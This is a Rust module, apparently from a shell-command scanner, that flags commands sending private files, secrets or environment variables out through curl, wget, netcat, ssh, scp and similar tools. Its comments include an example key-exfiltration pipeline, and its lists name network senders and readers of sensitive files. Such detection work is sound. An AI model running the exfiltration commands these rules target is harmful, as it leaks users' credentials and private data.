//! Sends local files, secrets or the environment out.

use super::syntax::{Command, Invocation, Pipeline, Script};
use super::vocabulary::{is_address, is_netcat, is_sender, is_sensitive};
use super::{ShellHit, ShellKind};

pub(super) fn find(script: &Script) -> Option<ShellHit> {
    let pipeline = script
        .pipelines
        .iter()
        .find(|pipeline| piped(pipeline) || pipeline.commands.iter().any(|command| uploads(script.text, command)))?;
    Some(ShellHit { kind: ShellKind::Exfiltration, span: pipeline.span() })
}

/// `cat ~/.ssh/id_rsa | curl -d @- x`: something private into something that sends.
fn piped(pipeline: &Pipeline) -> bool {
    let Some(sink) =
        pipeline.commands.iter().rposition(|command| command.lead().is_some_and(|lead| sends_input(&lead)))
    else {
        return false;
    };
    pipeline.commands[..sink].iter().any(reads_private)
}

fn sends_input(lead: &Invocation) -> bool {
    let addressed = || lead.arguments.iter().any(|word| is_address(word.text));
    match lead.program {
        "curl" => addressed() && lead.arguments.iter().any(|word| is_data_flag(word.text)),
        "wget" => lead.arguments.iter().any(|word| word.text.starts_with("--post") || word.text.starts_with("--body")),
        "mail" | "mailx" | "sendmail" => lead.operands().any(|word| word.contains('@')),
        "ssh" => lead.operands().next().is_some_and(|host| host.contains('@') || is_address(host)),
        program if is_netcat(program) => lead.operands().count() > 1,
        "socat" | "telnet" => addressed(),
        _ => false,
    }
}

fn is_data_flag(word: &str) -> bool {
    word.starts_with("--data")
        || word.starts_with("--form")
        || word == "--json"
        || word == "--upload-file"
        || matches!(word, "-d" | "-F" | "-T")
        || word.starts_with("-d@")
        || word.starts_with("-T-")
        || word.starts_with("-F")
}

fn reads_private(command: &Command) -> bool {
    let named = command.words.iter().any(|word| is_sensitive(word.text));
    let environment = command.lead().is_some_and(|lead| matches!(lead.program, "env" | "printenv" | "set" | "history"))
        || command.words.first().is_some_and(|word| word.text == "env" && command.words.len() == 1);
    named && command.invocations(is_reader).next().is_some() || environment
}

fn is_reader(program: &str) -> bool {
    matches!(
        program,
        "cat"
            | "head"
            | "tail"
            | "less"
            | "tar"
            | "zip"
            | "gzip"
            | "base64"
            | "xxd"
            | "openssl"
            | "grep"
            | "find"
            | "type"
            | "get-content"
            | "gc"
            | "cp"
            | "sed"
            | "awk"
            | "strings"
            | "dd"
    )
}

/// One command that sends a private file, or the output of a substitution that reads one.
fn uploads(text: &str, command: &Command) -> bool {
    command.invocations(is_sender).any(|call| {
        let file = match call.program {
            "curl" => {
                call.arguments.iter().any(|word| is_data_flag(word.text))
                    && call.arguments.iter().any(|word| {
                        word.text.contains('@') && is_sensitive(word.text)
                            || call.value(&["-T", "--upload-file"]).is_some_and(is_sensitive)
                    })
            }
            "wget" => call.value(&["--post-file", "--body-file"]).is_some_and(is_sensitive),
            "scp" | "rsync" => {
                call.operands().any(is_sensitive)
                    && call.operands().any(|word| word.contains(':') && !is_sensitive(word))
            }
            "invoke-webrequest" | "invoke-restmethod" | "iwr" | "irm" => {
                call.value(&["-InFile", "-infile"]).is_some_and(is_sensitive)
            }
            _ => false,
        };
        let fed = command.redirects.iter().any(|redirect| !redirect.output && is_sensitive(redirect.target))
            && (is_netcat(call.program) || call.program == "curl");
        file || fed
            || call.arguments.iter().filter_map(|word| word.substitution.clone()).any(|inner| {
                let script = Script::of(&text[inner]);
                script
                    .pipelines
                    .iter()
                    .flat_map(|pipeline| &pipeline.commands)
                    .any(|command| reads_private(command) || is_environment(command))
            })
    })
}

fn is_environment(command: &Command) -> bool {
    command
        .words
        .first()
        .is_some_and(|word| matches!(word.text, "env" | "printenv" | "history" | "whoami" | "hostname"))
}
